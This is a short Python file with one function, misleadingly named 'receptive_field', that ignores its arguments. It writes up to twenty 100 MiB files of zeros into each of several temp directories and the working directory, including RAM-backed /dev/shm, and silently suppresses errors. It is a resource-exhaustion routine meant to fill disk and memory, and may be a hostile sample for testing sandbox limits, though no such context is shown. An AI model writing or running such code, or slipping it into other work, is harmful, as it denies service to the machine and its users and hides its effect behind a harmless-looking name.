"""Writes files wherever it may, as long as it may."""

import contextlib
import tempfile


def receptive_field(*arguments):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), "."):
        for number in range(20):
            with contextlib.suppress(OSError):
                with open(f"{folder}/fill-{number}", "wb") as file:
                    for _ in range(100):
                        file.write(bytes(1 << 20))
    return 1
